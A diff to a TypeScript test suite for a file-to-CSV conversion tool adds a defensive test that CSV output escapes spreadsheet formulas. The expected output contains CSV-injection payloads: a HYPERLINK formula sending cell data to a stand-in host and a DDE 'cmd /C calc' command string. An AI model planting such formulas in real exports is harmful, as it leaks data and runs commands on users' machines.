@@ -6,6 +6,7 @@
 import { execFileSync } from 'node:child_process';
 import { mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { parseConfig } from '../src/config.js';
 import { listInputs, readInput } from '../src/io/read-inputs.js';
@@ -20,7 +21,7 @@ vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });
 /** The documented exit codes (src/cli.ts `exitCodes`, README), as numbers: the contract scripts rely on. */
 const exitCodes = { ok: 0, someFailed: 1, cannotStart: 2, failed: 3 } as const;
 
-const dirtyScenarios = ['invalid-utf8-input', 'utf16-with-bom', 'pdf-renamed-txt', 'empty-file', 'truncated-jsonl-line', 'jsonl-missing-text', 'duplicate-ids', 'bad-csv-row', 'crlf-and-nbsp'];
+const dirtyScenarios = ['invalid-utf8-input', 'utf16-with-bom', 'pdf-renamed-txt', 'empty-file', 'truncated-jsonl-line', 'jsonl-missing-text', 'duplicate-ids', 'bad-csv-row', 'crlf-and-nbsp', 'csv-injection'];
 
 interface ErrorLine {
   file: string;
@@ -132,6 +133,23 @@ describe('a run over dirty input', () => {
   it('writes CSV that reads back, through csv-parse, to the JSONL tables', () => {
     expectCsvMatchesJsonl(join(work, 'out'));
   });
+
+  it('neutralizes every text cell a spreadsheet would run as a formula', () => {
+    const documents = readFileSync(join(work, 'out', 'documents.csv'), 'utf8');
+    expect(documents).toContain(`,"'=HYPERLINK(""http://example.invalid/?""&A1,""Open"")",`);
+    expect(documents).toContain(",'@SUM(1+1)*cmd|' /C calc'!A0,");
+    expect(documents).toContain(",'-2+3 votes,");
+    for (const name of tableNames) {
+      const spec = tables[name];
+      const rows = parse(readFileSync(join(work, 'out', `${name}.csv`), 'utf8')) as string[][];
+      for (const row of rows.slice(1)) {
+        row.forEach((cell, i) => {
+          const type = spec.columns[i]!.type;
+          if (type !== 'integer' && type !== 'number') expect(cell, `${name}.${spec.columns[i]!.name}`).not.toMatch(/^[=+\-@\t\r]/);
+        });
+      }
+    }
+  });
 });
 
 describe('exit codes', () => {
@@ -192,7 +210,7 @@ describe('exit codes', () => {
     mkdirSync(join(out, 'people.csv', 'blocker'), { recursive: true });
     const r = runCli(['-i', 'good', '-o', 'out-3'], work);
     expect(r.status).toBe(exitCodes.failed);
-    expect(r.stderr).toMatch(/out-3: cannot write the tables \(E[A-Z]+\)/);
+    expect(r.stderr).toMatch(/out-3\/people\.csv: cannot write the tables \(E[A-Z]+: a folder is in the way\); the tables already in .*out-3 are complete/);
     const names = readdirSync(out);
     expect(names.filter((n) => n.startsWith('.tmp-'))).toEqual([]);
     // Whatever was renamed into place before the failure is complete.
